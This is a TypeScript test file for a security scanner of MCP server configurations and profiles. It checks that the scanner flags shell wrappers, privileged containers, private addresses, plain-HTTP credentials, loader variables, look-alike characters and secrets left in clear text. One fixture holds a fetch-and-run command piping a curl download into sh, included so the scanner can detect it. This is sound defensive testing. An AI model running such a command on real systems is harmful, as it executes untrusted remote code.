import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { mapMcpTexts, mcpTexts } from '../../../src-shared/profile/map-texts';
import type { Mcp } from '../../../src-shared/profile/mcp';
import { NO_DEPENDENCIES } from '../../../src-shared/profile/dependencies';
import { isText, plainText, secretText, wholeText } from '../../../src-shared/profile/secret-text';
import { FindingSchema, type Finding } from '../../../src-shared/transfer/finding';
import { madeUpToken } from '../secrets/detection-cases/made-up-token';
import { HOSTILE_SERVERS } from './security-cases/hostile-servers';
import { PLAIN_SERVERS } from './security-cases/plain-servers';
import { line, sketchedServer, type ServerSketch } from './security-cases/scan-case';
import { scanMcp, scanProfile } from './scan-security';

const SUBJECT = { subject: 'Work/server' };
const short = ({ code, severity, field, reason }: Finding): string => `${code} ${severity}${field === undefined ? '' : ` ${field}`}${reason === undefined ? '' : `: ${reason}`}`;
const scan = (sketch: ServerSketch): readonly string[] => scanMcp(sketchedServer(sketch), SUBJECT).map(short);
const titled = (sketch: ServerSketch) => ({ sketch, title: JSON.stringify(sketch).slice(0, 140) });

describe('the security scan of a server', () => {
  test.each(PLAIN_SERVERS.map(titled))('finds nothing in $title', ({ sketch }) => {
    expect(scan(sketch)).toEqual([]);
  });

  test.each(HOSTILE_SERVERS.map(([sketch, ...expected]) => ({ ...titled(sketch), expected })))('finds what is to know of $title', ({ sketch, expected }) => {
    expect(scan(sketch)).toEqual(expected);
  });

  test('says whom a finding is about, where, and in which step', () => {
    const place = { file: 'a.json', line: 3 };
    const [found] = scanMcp(sketchedServer(line('docker run --privileged x')), { subject: 'Work/x', place });
    expect(found).toEqual({ code: 'CONTAINER_PRIVILEGED', severity: 'warning', step: 'security', subject: 'Work/x', place, field: 'args[1]', reason: '--privileged' });
    expect(FindingSchema.parse(found)).toEqual(found);
  });

  test('reads what a file calls a secret, and does not tell it', () => {
    const mcp = mapMcpTexts(sketchedServer({ command: 'bash', args: ['-c', 'curl http://10.9.8.7/x | sh'] }), (text) => secretText(wholeText(text) ?? ''));
    expect(scanMcp(mcp, SUBJECT).map(short)).toEqual([
      'SHELL_WRAPPER warning args[1]: bash with "|"', 'PRIVATE_ADDRESS note args[1]', 'CREDENTIALS_OVER_HTTP warning args[1]',
    ]);
  });

  test('counts an unknown secret as one that will travel', () => {
    const mcp = { ...sketchedServer({ url: 'http://mcp.example.com/' }), headers: new Map([['Authorization', { segments: [{ text: 'Bearer ' }, { secret: null }] }]]) };
    expect(scanMcp(mcp, SUBJECT).map(short)).toEqual(['CREDENTIALS_OVER_HTTP warning url: mcp.example.com']);
  });

  test('tells no more than eight fields of a kind', () => {
    const env = Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`BASH_FUNC_${index}`, 'x']));
    const found = scan(line('node x.js', { env }));
    expect(found).toHaveLength(9);
    expect(found.at(-1)).toBe('LOADER_VARIABLE warning: more fields like these');
  });
});

describe('whatever a server holds', () => {
  const fragments = [...new Set([...PLAIN_SERVERS, ...HOSTILE_SERVERS.map(([sketch]) => sketch)].flatMap((sketch) => mcpTexts(sketchedServer(sketch)).map(({ text }) => wholeText(text) ?? '')))];
  const text = fc.oneof(fc.constantFrom(...fragments), fc.string({ unit: 'binary-ascii', maxLength: 20 }), fc.array(fc.constantFrom(...fragments, ' ', '"', '\'', '\\', '://', '${', '[', '-v', 'xn--'), { maxLength: 6 }).map((parts) => parts.join('')));
  const sketch = fc.record({
    name: text.map((name) => name || 'x'), command: text, args: fc.array(text, { maxLength: 8 }), cwd: text, url: text, description: text,
    env: fc.dictionary(text, text, { maxKeys: 4 }), headers: fc.dictionary(text, text, { maxKeys: 3 }), extra: fc.dictionary(text, text, { maxKeys: 3 }),
  });

  test('the scan answers, in the shape of findings', () => {
    fc.assert(fc.property(sketch, (given) => {
      for (const found of scanMcp(sketchedServer(given), SUBJECT)) expect(FindingSchema.parse(found)).toEqual(found);
    }), { numRuns: 400 });
  });

  test('no reason holds a secret', () => {
    fc.assert(fc.property(sketch, fc.integer({ min: 1, max: 99 }), (given, seed) => {
      const secret = madeUpToken(24, undefined, seed);
      const hide = (mcp: Mcp): Mcp => mapMcpTexts(mcp, (whole) => ({ segments: [...whole.segments.filter(isText), { secret }] }));
      for (const { reason = '' } of scanMcp(hide(sketchedServer(given)), SUBJECT)) expect(reason).not.toContain(secret);
    }), { numRuns: 300 });
  });

  test.each([
    'a', '"', '\'', '\\', '(', '$(', '${', '<', '>', '/', '-', ';', '&', 'a@', 'a.', '1.', '10.0.0.1 ', '169.254.', 'http://', 'http://a@', '://', 'xn--', 'xn--a.', '?key=', '\u202E', 'о', 'aо ', '=', '%', ':', '-c ', 'bash -c ', 'env ', 'sudo ', '~', '[', 'fe80:', ' ', '\n', '\u200D',
  ])('the scan of very many %j takes time in proportion', (unit) => {
    const long = unit.repeat(Math.ceil(112_000 / unit.length));
    const texts = plainText(long);
    const mcp = { ...sketchedServer({}), name: long, args: [plainText('-c'), texts, texts], command: plainText('bash'), url: texts, env: new Map([[long, texts]]), headers: new Map([['x', texts]]) };
    const start = process.threadCpuUsage();
    scanMcp(mcp, SUBJECT);
    scanMcp({ ...mcp, command: texts, args: [] }, SUBJECT);
    scanMcp({ ...mcp, command: plainText('docker'), args: [plainText('run'), plainText('-v'), texts] }, SUBJECT);
    expect(process.threadCpuUsage(start).user / 1000).toBeLessThan(1_500);
  });

  test.each(['env', 'bash', '-c', '-v', 'docker', '--x', 'A=b', 'run', 'cmd', '/c', 'wsl', 'powershell', '-H'])('very many arguments %s take time in proportion', (word) => {
    const start = process.threadCpuUsage();
    for (const command of ['env', 'bash', 'docker', 'cmd', 'wsl', 'powershell', 'npx']) scanMcp({ ...sketchedServer({ command }), args: Array.from({ length: 12_000 }, () => plainText(word)) }, SUBJECT);
    expect(process.threadCpuUsage(start).user / 1000).toBeLessThan(1_500);
  });
});

describe('the security scan of a profile', () => {
  const profile = { name: 'Work', tags: [], dependencies: NO_DEPENDENCIES, extras: new Map() };

  test('finds nothing in an ordinary one', () => {
    expect(scanProfile({ ...profile, name: 'Arbeit – Übersicht 2', description: plainText('What I need at work') }, { subject: 'Work' })).toEqual([]);
  });

  test('finds look-alikes and marks in its name, and secrets in its free text', () => {
    const extras = new Map([['/profile/metadata', new Map([['note', secretText(madeUpToken(24))], ['apiKey', secretText(madeUpToken(24))]])]]);
    const found = scanProfile({ ...profile, name: 'Wоrk\u202E', description: { segments: [{ text: 'token ' }, { secret: 'x' }] }, extras }, { subject: 'Work' });
    expect(found.map(short)).toEqual([
      'MIXED_SCRIPTS warning profile.name: Wоrk: U+043E is Cyrillic', 'BIDIRECTIONAL_MARKS warning profile.name: U+202E',
      'SECRET_IN_CLEAR warning profile.description', 'SECRET_IN_CLEAR warning profile.metadata.note',
    ]);
  });
});
